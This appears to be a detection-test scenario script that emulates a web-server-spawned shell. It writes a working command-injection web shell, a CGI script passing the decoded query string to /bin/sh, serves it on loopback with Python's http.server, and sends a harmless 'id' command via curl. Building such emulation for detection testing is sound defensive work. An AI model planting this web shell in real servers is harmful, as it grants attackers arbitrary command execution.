#!/usr/bin/env bash
# Shell spawned by a web server: `python3 -m http.server --cgi` on loopback runs a CGI script
# whose query string is executed by sh (a command-injection web shell).
. "$(dirname "$0")/../lib.sh"
scn_begin service-python-cgi T1059.004
[ -n "$SCN_PY" ] || scn_skip "python3 is not installed"
scn_require curl
"$SCN_PY" -c 'import http.server; http.server.CGIHTTPRequestHandler' 2>/dev/null \
    || scn_skip "this Python has no CGIHTTPRequestHandler"
scn_tmpdir SCN_WORK
mkdir -p "$SCN_WORK/www/cgi-bin"
cat >"$SCN_WORK/www/cgi-bin/status.cgi" <<'SH'
#!/bin/bash
printf 'Content-Type: text/plain\r\n\r\n'
q=${QUERY_STRING//+/ }
printf -v cmd '%b' "${q//%/\\x}"
/bin/sh -c "$cmd" 2>&1
SH
chmod +x "$SCN_WORK/www/cgi-bin/status.cgi"
port=$(scn_free_port)
(cd "$SCN_WORK/www" && exec "$SCN_PY" -W ignore -m http.server --cgi --bind 127.0.0.1 "$port") >/dev/null 2>&1 &
server=$!
scn_track $server
printf 'SCENARIO-INFO service_pid=%s\n' "$server"
scn_wait_listen "$port"
SCN_OUT="$SCN_WORK/out"
curl -sS -G --max-time 10 "http://127.0.0.1:$port/cgi-bin/status.cgi" \
    --data-urlencode '=echo SCN-MARK pid=$$ ppid=$PPID; id' >"$SCN_OUT"
scn_shell_finish
